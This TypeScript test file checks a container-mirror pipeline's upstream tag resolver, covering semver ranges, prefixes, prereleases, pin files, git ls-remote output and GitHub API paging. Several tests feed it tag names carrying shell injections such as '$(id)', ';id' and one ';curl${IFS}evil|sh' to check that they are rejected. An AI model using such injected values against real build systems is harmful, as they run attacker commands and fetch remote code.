import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { after, before, describe, it } from "node:test";
import { allowedTags, parseLsRemote, parseTagsFile, resolveTag, versionOf, type TagPolicy } from "../../pipeline/lib/tags";
import { startGitHubStandIn, type GitHubStandIn } from "../support/github-standin";
import { configYaml, gitRepo, run, TESTDATA, tmpDir } from "../fixtures/pipeline/harness";

const TAGS = path.join(TESTDATA, "upstream-tags");
const tagsOf = (name: string) => parseTagsFile(fs.readFileSync(path.join(TAGS, `${name}-tags.txt`), "utf8"));
const policy = (p: Partial<TagPolicy> = {}): TagPolicy => ({ range: "*", prerelease: false, prefix: "", ...p });

const PATTERN_MESSAGE = "(allowed: a name matching ^[A-Za-z0-9][A-Za-z0-9._+/-]{0,127}$; git also allows characters such as ; $ ( | in tag names, which this pipeline never passes on)";

describe("resolve: the newest allowed tag of real upstream tag lists", () => {
  const cases: Array<{ upstream: string; p: Partial<TagPolicy>; want: string; why: string }> = [
    { upstream: "Gokapi", p: {}, want: "v2.2.4", why: "v-prefixed semver" },
    { upstream: "Gokapi", p: { range: ">=2.0.0" }, want: "v2.2.4", why: "the range of mirrors/gokapi.ts" },
    { upstream: "Gokapi", p: { range: "<2.0.0" }, want: "v1.9.6", why: "a range below the newest major" },
    { upstream: "Gokapi", p: { range: "~1.0.0" }, want: "v1.0.1", why: "v1.0 (coerced to 1.0.0) is older than v1.0.1" },
    { upstream: "Gokapi", p: { range: "1.0.0" }, want: "v1.0", why: "v1.0 is 1.0.0 when no strict v1.0.0 exists" },
    { upstream: "Gokapi", p: { range: "<2.2.0", prerelease: true }, want: "v2.2.0-rc1", why: "a prerelease when allowed" },
    { upstream: "transfer.sh", p: {}, want: "v1.6.1", why: "the last release, 2023" },
    { upstream: "plik", p: {}, want: "1.3.8", why: "mixed tags: 1.0-RC1, 1.2 and 1.3.8" },
    { upstream: "plik", p: { range: "~1.2.0" }, want: "1.2.4", why: "1.2 (1.2.0) is older than 1.2.4" },
    { upstream: "plik", p: { range: "1.3.0" }, want: "1.3", why: "1.3 coerced to 1.3.0" },
    { upstream: "plik", p: { range: "<1.0.0", prerelease: true }, want: "1.0-RC5", why: "loose prereleases 1.0-RC1..RC5 when allowed" },
    { upstream: "plik", p: { range: "<1.3.0", prerelease: true }, want: "1.3-RC1", why: "1.3-RC1 (1.3.0-RC1) is newer than 1.2.4" },
    { upstream: "plik", p: { range: "<1.3.0" }, want: "1.2.4", why: "1.3-RC1 excluded without prereleases" },
    { upstream: "uptime-kuma", p: {}, want: "2.5.3", why: "without prereleases" },
    { upstream: "uptime-kuma", p: { prerelease: true }, want: "2.5.3", why: "with prereleases: none newer than 2.5.3" },
    { upstream: "uptime-kuma", p: { range: "<2.1.0" }, want: "2.0.2", why: "below 2.1.0, stable" },
    { upstream: "uptime-kuma", p: { range: "<2.1.0", prerelease: true }, want: "2.1.0-beta.3", why: "below 2.1.0 with prereleases" },
    { upstream: "uptime-kuma", p: { range: "<2.0.0" }, want: "1.23.17", why: "version order, not date order: 1.23.17 came after 2.0.0" },
    { upstream: "uptime-kuma", p: { range: "~2.0.0-0", prerelease: true }, want: "2.0.2", why: "2.0.0-beta.2-temp is a strict prerelease, older than 2.0.2" },
  ];
  for (const c of cases) {
    it(`GIVEN ${c.upstream} and ${JSON.stringify(c.p)} WHEN resolved THEN ${c.want} (${c.why})`, () => {
      const r = resolveTag(tagsOf(c.upstream), policy(c.p), { lastTag: null });
      assert.equal(r.tag, c.want);
      assert.equal(r.build, true);
      assert.equal(r.reason, `nothing is pinned yet: building the newest allowed tag ${c.want}`);
    });
  }

  it("GIVEN plik WHEN listing allowed tags THEN loose versions are coerced, prereleases excluded, order newest first", () => {
    const names = allowedTags(tagsOf("plik"), policy({ range: "<1.2.0" })).map((c) => `${c.tag.name}=${c.version.version}${c.strict ? "" : "~"}`);
    assert.deepEqual(names, ["1.1.1=1.1.1", "1.1=1.1.0~", "1.0.1=1.0.1", "1.0=1.0.0~"]);
  });
});

describe("resolve: versions, prefixes and tag names that are not versions", () => {
  const table: Array<[string, string, string | undefined]> = [
    ["v1.2.3", "", "1.2.3"],
    ["1.2.3", "", "1.2.3"],
    ["1.2", "", "1.2.0~"],
    ["v1", "", "1.0.0~"],
    ["1.0-RC1", "", "1.0.0-RC1~"],
    ["photos-v1.3.57", "photos-v", "1.3.57"],
    ["photos-v1.3.57", "", undefined],
    ["server-v2.0.0", "photos-v", undefined],
    ["release-2023", "", undefined],
    ["1.2.3.4", "", undefined],
    ["latest", "", undefined],
    ["v9.9.9;id", "", undefined],
    ["v9.9.9$(id)", "", undefined],
    ["-v1.0.0", "", undefined],
  ];
  for (const [name, prefix, want] of table) {
    it(`GIVEN ${JSON.stringify(name)} with prefix ${JSON.stringify(prefix)} THEN ${want ?? "not a version"}`, () => {
      const v = versionOf(name, prefix);
      assert.equal(v === undefined ? undefined : `${v.version.version}${v.strict ? "" : "~"}`, want);
    });
  }

  it("GIVEN a monorepo's tags and prefix photos-v WHEN resolved THEN the newest photos tag, other components ignored", () => {
    const tags = ["photos-v1.3.56", "photos-v1.3.57", "photos-v1.4.0-beta.1", "server-v9.0.0", "v3.0.0"].map((name) => ({ name }));
    assert.equal(resolveTag(tags, policy({ prefix: "photos-v" }), { lastTag: "photos-v1.3.56" }).tag, "photos-v1.3.57");
  });

  it("GIVEN a newer tag whose name git allows but the pattern does not WHEN resolved THEN it is skipped as a non-version", () => {
    const tags = ["v1.0.0", "v9.0.0;curl${IFS}evil|sh", "v9.0.0$(id)", "v9.0.0(x)"].map((name) => ({ name }));
    assert.equal(resolveTag(tags, policy(), { lastTag: null }).tag, "v1.0.0");
  });
});

describe("resolve: the decision against image-pin.yml, --tag and --force", () => {
  const tags = ["v1.0.0", "v1.1.0", "v1.2.0", "v2.0.0-rc.1"].map((name) => ({ name, commit: `${name}-sha` }));
  const cases: Array<{ name: string; last: string | null; req?: string; force?: boolean; tag: string; build: boolean; reason: string }> = [
    { name: "nothing pinned", last: null, tag: "v1.2.0", build: true, reason: "nothing is pinned yet: building the newest allowed tag v1.2.0" },
    { name: "an older tag pinned", last: "v1.1.0", tag: "v1.2.0", build: true, reason: "new upstream tag v1.2.0 (pinned: v1.1.0)" },
    { name: "the newest pinned", last: "v1.2.0", tag: "v1.2.0", build: false, reason: "v1.2.0 is already pinned; nothing to build" },
    { name: "the newest pinned, --force", last: "v1.2.0", force: true, tag: "v1.2.0", build: true, reason: "forced rebuild of v1.2.0" },
    { name: "a newer tag pinned than allowed", last: "v3.0.0", tag: "v1.2.0", build: false, reason: "pinned tag v3.0.0 is newer than the newest allowed tag v1.2.0; nothing to build" },
    { name: "the same version under another name", last: "1.2.0", tag: "v1.2.0", build: false, reason: "v1.2.0 is the same version as the pinned 1.2.0; nothing to build" },
    { name: "a pinned non-version", last: "main", tag: "v1.2.0", build: true, reason: "pinned tag main is not a version under the tag policy; building the newest allowed tag v1.2.0" },
    { name: "--tag an older tag", last: "v1.2.0", req: "v1.0.0", tag: "v1.0.0", build: true, reason: "requested tag v1.0.0" },
    { name: "--tag the pinned tag", last: "v1.2.0", req: "v1.2.0", tag: "v1.2.0", build: false, reason: "requested tag v1.2.0 is already pinned; nothing to build (--force rebuilds it)" },
    { name: "--tag the pinned tag, --force", last: "v1.2.0", req: "v1.2.0", force: true, tag: "v1.2.0", build: true, reason: "forced rebuild of the requested tag v1.2.0" },
  ];
  for (const c of cases) {
    it(`GIVEN ${c.name} THEN tag ${c.tag}, build ${c.build}`, () => {
      const r = resolveTag(tags, policy(), { lastTag: c.last, requested: c.req, force: c.force });
      assert.deepEqual(r, { tag: c.tag, commit: `${c.tag}-sha`, lastTag: c.last, build: c.build, reason: c.reason });
    });
  }

  const errors: Array<{ name: string; last: string | null; req?: string; p?: Partial<TagPolicy>; message: string }> = [
    { name: "--tag that does not exist", last: null, req: "v1.3.0", message: "requested tag v1.3.0 does not exist upstream (4 tags seen)" },
    { name: "--tag outside the policy", last: null, req: "v2.0.0-rc.1", message: 'requested tag v2.0.0-rc.1 is not allowed by the tag policy (range "*", prereleases excluded, prefix none)' },
    { name: "--tag with a shell metacharacter", last: null, req: "v1.0.0;id", message: `requested tag "v1.0.0;id" is not allowed ${PATTERN_MESSAGE}` },
    { name: "a pinned tag with $( )", last: "v1$(id)", message: `pinned tag (image-pin.yml) "v1$(id)" is not allowed ${PATTERN_MESSAGE}` },
    { name: "no tag in the range", last: null, p: { range: ">=5" }, message: 'no upstream tag matches the tag policy (range ">=5", prereleases excluded, prefix none); 4 tags seen, the last listed: v1.0.0, v1.1.0, v1.2.0, v2.0.0-rc.1' },
    { name: "a range that is not semver", last: null, p: { range: "newest" }, message: 'tag policy: range "newest" is not a semver range (allowed: e.g. ">=2.0.0 <3" or "*")' },
  ];
  for (const c of errors) {
    it(`GIVEN ${c.name} THEN an error that says so`, () => {
      assert.throws(() => resolveTag(tags, policy(c.p), { lastTag: c.last, requested: c.req }), { message: c.message });
    });
  }
});

describe("resolve: tags of real git repositories (git ls-remote)", () => {
  let repo: ReturnType<typeof gitRepo>;
  let commits: Record<string, string>;
  before(() => {
    repo = gitRepo();
    commits = {};
    commits.a = repo.commit({ "README.md": "a\n" }, "a");
    repo.git("tag", "v1.0.0"); // lightweight, v
    commits.b = repo.commit({ "README.md": "b\n" }, "b");
    repo.git("tag", "-a", "v1.1.0", "-m", "annotated"); // annotated, v
    commits.c = repo.commit({ "README.md": "c\n" }, "c");
    repo.git("tag", "1.2.0"); // lightweight, no v
    commits.d = repo.commit({ "README.md": "d\n" }, "d");
    repo.git("tag", "-a", "1.3.0", "-m", "annotated"); // annotated, no v
    repo.git("tag", "-a", "photos-v1.3.57", "-m", "monorepo"); // annotated, prefixed
    commits.e = repo.commit({ "README.md": "e\n" }, "e");
    repo.git("tag", "v2.0.0-rc.1");
    repo.git("tag", "v9.0.0;id"); // git accepts these; the pipeline must not
    repo.git("tag", "v9.0.0$(id)");
  });

  it("GIVEN git accepts ; and $( in tag names THEN the test repository really has them", () => {
    assert.match(repo.git("tag", "--list"), /^v9\.0\.0;id$/m);
    assert.match(repo.git("tag", "--list"), /^v9\.0\.0\$\(id\)$/m);
  });

  const cases: Array<{ name: string; flags: string[]; tag: string; commit: string }> = [
    { name: "no prefix: the newest of v1.0.0, v1.1.0, 1.2.0, 1.3.0", flags: [], tag: "1.3.0", commit: "d" },
    { name: "prefix photos-v (annotated)", flags: ["--prefix", "photos-v"], tag: "photos-v1.3.57", commit: "d" },
    { name: "prereleases allowed", flags: ["--prerelease"], tag: "v2.0.0-rc.1", commit: "e" },
    { name: "range ~1.1 (annotated, peeled)", flags: ["--range", "~1.1"], tag: "v1.1.0", commit: "b" },
    { name: "range ~1.2 (lightweight, no v)", flags: ["--range", "~1.2"], tag: "1.2.0", commit: "c" },
    { name: "range 1.0.x (lightweight, v)", flags: ["--range", "1.0.x"], tag: "v1.0.0", commit: "a" },
  ];
  for (const c of cases) {
    it(`GIVEN ${c.name} WHEN resolve --remote <path> THEN ${c.tag} at its commit`, async () => {
      const r = await run(["resolve", "--remote", repo.dir, ...c.flags]);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(r.json, { tag: c.tag, commit: commits[c.commit], lastTag: null, build: true, reason: `nothing is pinned yet: building the newest allowed tag ${c.tag}` });
      assert.deepEqual(r.outputs, { tag: c.tag, commit: commits[c.commit], last_tag: "", build: "true", reason: r.json.reason });
    });
  }

  it("GIVEN ls-remote output of an annotated tag THEN the peeled commit, not the tag object", () => {
    const tagObject = repo.git("rev-parse", "v1.1.0");
    assert.notEqual(tagObject, commits.b);
    const tags = parseLsRemote(`${tagObject}\trefs/tags/v1.1.0\n${commits.b}\trefs/tags/v1.1.0^{}\n${commits.a}\trefs/tags/v1.0.0\n`);
    assert.deepEqual(tags, [
      { name: "v1.1.0", commit: commits.b },
      { name: "v1.0.0", commit: commits.a },
    ]);
  });

  it("GIVEN image-pin.yml pins the newest tag WHEN resolve THEN no build; with --force a build", async () => {
    const cwd = tmpDir();
    fs.writeFileSync(path.join(cwd, "image-pin.yml"), "# written by the pipeline\nimage: ghcr.io/acme/x\ntag: 1.3.0\ndigest: sha256:abc\n");
    const r = await run(["resolve", "--remote", repo.dir], { cwd });
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.json, { tag: "1.3.0", commit: commits.d, lastTag: "1.3.0", build: false, reason: "1.3.0 is already pinned; nothing to build" });
    assert.equal(r.outputs.build, "false");
    const forced = await run(["resolve", "--remote", repo.dir, "--force"], { cwd });
    assert.equal(forced.json.build, true);
    assert.equal(forced.json.reason, "forced rebuild of 1.3.0");
  });

  it("GIVEN --tag naming a tag with ; WHEN resolve THEN exit 2 and the pattern in the message", async () => {
    const r = await run(["resolve", "--remote", repo.dir, "--tag", "v9.0.0;id"]);
    assert.equal(r.code, 2);
    assert.equal(r.stdout, "");
    assert.equal(r.stderr, `resolve: requested tag "v9.0.0;id" is not allowed ${PATTERN_MESSAGE}\n`);
  });

  it("GIVEN a remote that does not exist WHEN resolve THEN exit 2 naming it", async () => {
    const missing = path.join(tmpDir(), "nope");
    const r = await run(["resolve", "--remote", missing]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, new RegExp(`^resolve: git ls-remote --tags ${missing.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} failed: `));
  });
});

describe("resolve: --tags-file and --config", () => {
  it("GIVEN the Gokapi tag list and a config with its tag policy WHEN resolve THEN v2.2.4 and no commit", async () => {
    const cwd = tmpDir();
    fs.mkdirSync(path.join(cwd, ".mirror"));
    fs.writeFileSync(path.join(cwd, ".mirror/config.yml"), configYaml({ range: ">=2.0.0", prerelease: false, prefix: "" }));
    const r = await run(["resolve", "--tags-file", path.join(TAGS, "Gokapi-tags.txt")], { cwd });
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.json, { tag: "v2.2.4", lastTag: null, build: true, reason: "nothing is pinned yet: building the newest allowed tag v2.2.4" });
    assert.equal(r.outputs.commit, "");
  });

  it("GIVEN a config range and --range WHEN resolve THEN the flag wins", async () => {
    const cwd = tmpDir();
    const config = path.join(cwd, "c.yml");
    fs.writeFileSync(config, configYaml({ range: ">=2.0.0", prerelease: false, prefix: "" }));
    const r = await run(["resolve", "--config", config, "--range", "<2", "--tags-file", path.join(TAGS, "Gokapi-tags.txt")], { cwd });
    assert.equal(r.json.tag, "v1.9.6");
  });

  it("GIVEN both --remote and --tags-file WHEN resolve THEN a usage error", async () => {
    const r = await run(["resolve", "--remote", ".", "--tags-file", "x"]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /^resolve: --remote and --tags-file cannot both be given\n\nusage: mirror-pipeline resolve/);
  });
});

describe("resolve: the GitHub API (tags and releases, every page)", () => {
  let gh: GitHubStandIn;
  before(async () => {
    gh = await startGitHubStandIn();
    gh.addRepo("louislam/uptime-kuma", { private: false });
    gh.seedTagLines("louislam/uptime-kuma", fs.readFileSync(path.join(TAGS, "uptime-kuma-tags.txt"), "utf8"), { releases: true });
    // 150 names that sort before every version tag (GitHub lists tags by name, descending),
    // so the version tags sit on the second and third pages of 100.
    for (let i = 0; i < 150; i++) gh.addTag("louislam/uptime-kuma", `zz-nightly-${String(i).padStart(3, "0")}`);
    // A tag GitHub's release marks as a prerelease although its name is stable, and a draft without a tag.
    gh.addCommit("louislam/uptime-kuma", { message: "2.6.0", files: { VERSION: "2.6.0\n" } });
    gh.addTag("louislam/uptime-kuma", "2.6.0");
    gh.addRelease("louislam/uptime-kuma", { tag: "2.6.0", date: "2026-09-01T00:00:00Z", prerelease: true });
    gh.addRelease("louislam/uptime-kuma", { tag: "9.9.9", date: "2026-10-01T00:00:00Z", draft: true });
  });
  after(async () => {
    await gh.stop();
  });

  it("GIVEN version tags past the first page WHEN resolve THEN 2.5.3, every page read, no request rejected", async () => {
    const r = await run(["resolve", "--upstream", "louislam/uptime-kuma"], { env: gh.env() });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.json.tag, "2.5.3");
    assert.match(r.json.commit, /^[0-9a-f]{40}$/);
    assert.deepEqual(gh.rejected, []);
    const pages = gh.requests.filter((q) => q.operationId === "repos/list-tags").length;
    assert.ok(pages >= 3, `expected 3 or more pages of tags, got ${pages}`);
    assert.ok(gh.requests.some((q) => q.operationId === "repos/list-releases"));
  });

  it("GIVEN a release GitHub marks as prerelease WHEN prereleases are allowed THEN it is chosen; the draft never is", async () => {
    const r = await run(["resolve", "--upstream", "louislam/uptime-kuma", "--prerelease"], { env: gh.env() });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.json.tag, "2.6.0");
    assert.deepEqual(gh.rejected, []);
  });

  it("GIVEN no GITHUB_TOKEN WHEN resolve from the API THEN exit 2 saying so", async () => {
    const r = await run(["resolve", "--upstream", "louislam/uptime-kuma"], { env: { GITHUB_API_URL: gh.url } });
    assert.equal(r.code, 2);
    assert.equal(r.stderr, "resolve: GITHUB_TOKEN is not set (the workflow passes the job's token in env)\n");
  });
});
